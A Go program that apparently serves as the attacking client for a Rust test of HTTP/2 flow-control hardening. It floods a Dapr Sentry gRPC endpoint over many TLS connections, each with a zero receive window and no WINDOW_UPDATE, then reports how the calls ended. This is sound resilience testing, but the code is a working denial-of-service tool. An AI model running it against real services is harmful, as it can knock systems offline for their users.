// Command h2attack is the flow-control attacker of tests/hostile_flow_control.rs, run as its own
// process so that its connections do not compete with the test's good client for a runtime.
//
// It opens -conns TLS connections (ALPN h2) from -source to -addr, each announcing
// SETTINGS_INITIAL_WINDOW_SIZE = 0 so no response body can ever be sent, and sends -streams
// gRPC calls (HEADERS for -path, then the framed message read from -body as one DATA frame with
// END_STREAM) on each, never sending a WINDOW_UPDATE. It then waits for every call to end
// (trailers-only answer, RST_STREAM or GOAWAY), closes the connection, and prints one JSON
// object: calls sent, connections opened and how the calls ended, keyed by grpc-status or by
// the HTTP/2 error code name.
//
// Built only from crypto/tls and golang.org/x/net/http2's Framer and hpack.
package main

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"os"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

type result struct {
	Conns      int            `json:"conns"`
	DialErrors int            `json:"dial_errors"`
	Sent       int            `json:"sent"`
	Ends       map[string]int `json:"ends"`
	ElapsedMs  int64          `json:"elapsed_ms"`
	FirstError string         `json:"first_error,omitempty"`
}

type conf struct {
	addr, source, path, authority string
	streams                       int
	body                          []byte
	wait                          time.Duration
}

func headerBlock(c *conf) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":path", c.path},
		{":authority", c.authority}, {"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return buf.Bytes()
}

// attack runs one connection and returns the calls it sent and how each ended.
func attack(c *conf, block []byte, sentAll func()) (int, map[string]int, error) {
	defer sentAll()
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(c.source)}, Timeout: 30 * time.Second}
	conn, err := tls.DialWithDialer(dialer, "tcp", c.addr, &tls.Config{
		InsecureSkipVerify: true, // the attacker does not care whom it floods
		NextProtos:         []string{"h2"},
	})
	if err != nil {
		return 0, nil, err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(c.wait))
	var wmu sync.Mutex
	w := http2.NewFramer(conn, nil)
	r := http2.NewFramer(nil, conn)
	r.ReadMetaHeaders = hpack.NewDecoder(4096, nil)

	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return 0, nil, err
	}
	wmu.Lock()
	err = w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	wmu.Unlock()
	if err != nil {
		return 0, nil, err
	}

	ends := map[string]int{}
	open := map[uint32]bool{}
	var mu sync.Mutex
	sent := 0
	sending := true
	done := make(chan error, 1)
	go func() {
		for {
			fr, err := r.ReadFrame()
			if err != nil {
				done <- err
				return
			}
			mu.Lock()
			end := func(id uint32, how string) {
				if open[id] {
					delete(open, id)
					ends[how]++
				}
			}
			switch f := fr.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					wmu.Lock()
					_ = w.WriteSettingsAck()
					wmu.Unlock()
				}
			case *http2.MetaHeadersFrame:
				if f.StreamEnded() {
					status := f.PseudoValue("status")
					if s := f.RegularFields(); len(s) > 0 {
						for _, h := range s {
							if h.Name == "grpc-status" {
								status = h.Value
							}
						}
					}
					end(f.StreamID, status)
				}
			case *http2.DataFrame:
				// Window 0 admits no data; if any comes the server ignored the window.
				if f.StreamEnded() {
					end(f.StreamID, "data")
				}
			case *http2.RSTStreamFrame:
				end(f.StreamID, f.ErrCode.String())
			case *http2.GoAwayFrame:
				for id := range open {
					end(id, "GOAWAY_"+f.ErrCode.String())
				}
			}
			finished := !sending && len(open) == 0
			mu.Unlock()
			if finished {
				done <- nil
				return
			}
		}
	}()

	for i := 0; i < c.streams; i++ {
		id := uint32(2*i + 1)
		mu.Lock()
		open[id] = true
		mu.Unlock()
		wmu.Lock()
		err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		if err == nil {
			err = w.WriteData(id, true, c.body)
		}
		wmu.Unlock()
		if err != nil {
			mu.Lock()
			delete(open, id)
			mu.Unlock()
			break
		}
		sent++
	}
	sentAll()
	mu.Lock()
	sending = false
	finished := len(open) == 0
	mu.Unlock()
	if finished {
		return sent, ends, nil
	}
	err = <-done
	mu.Lock()
	defer mu.Unlock()
	if n := len(open); n > 0 {
		ends["unanswered"] += n
	}
	if err != nil && len(open) > 0 {
		return sent, ends, err
	}
	return sent, ends, nil
}

func main() {
	c := &conf{}
	var conns, parallel int
	var bodyPath string
	flag.StringVar(&c.addr, "addr", "", "Sentry's gRPC address")
	flag.StringVar(&c.source, "source", "127.0.0.1", "local address to connect from")
	flag.StringVar(&c.path, "path", "/dapr.proto.sentry.v1.CA/SignCertificate", "request path")
	flag.StringVar(&c.authority, "authority", "dapr-sentry", ":authority")
	flag.IntVar(&conns, "conns", 1000, "connections")
	flag.IntVar(&c.streams, "streams", 128, "calls per connection")
	flag.IntVar(&parallel, "parallel", 16, "connections set up at once")
	flag.StringVar(&bodyPath, "body", "", "file with one gRPC-framed request message")
	flag.DurationVar(&c.wait, "wait", 120*time.Second, "how long a connection waits for its answers")
	flag.Parse()
	body, err := os.ReadFile(bodyPath)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	c.body = body
	block := headerBlock(c)

	res := result{Ends: map[string]int{}}
	var mu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, parallel)
	started := time.Now()
	for i := 0; i < conns; i++ {
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			// The next connection may start once this one has sent its calls; it stays open.
			var once sync.Once
			sent, ends, err := attack(c, block, func() { once.Do(func() { <-sem }) })
			mu.Lock()
			defer mu.Unlock()
			if ends == nil {
				res.DialErrors++
			} else {
				res.Conns++
			}
			res.Sent += sent
			for k, v := range ends {
				res.Ends[k] += v
			}
			if err != nil && res.FirstError == "" {
				res.FirstError = err.Error()
			}
		}()
	}
	wg.Wait()
	res.ElapsedMs = time.Since(started).Milliseconds()
	_ = json.NewEncoder(os.Stdout).Encode(res)
}
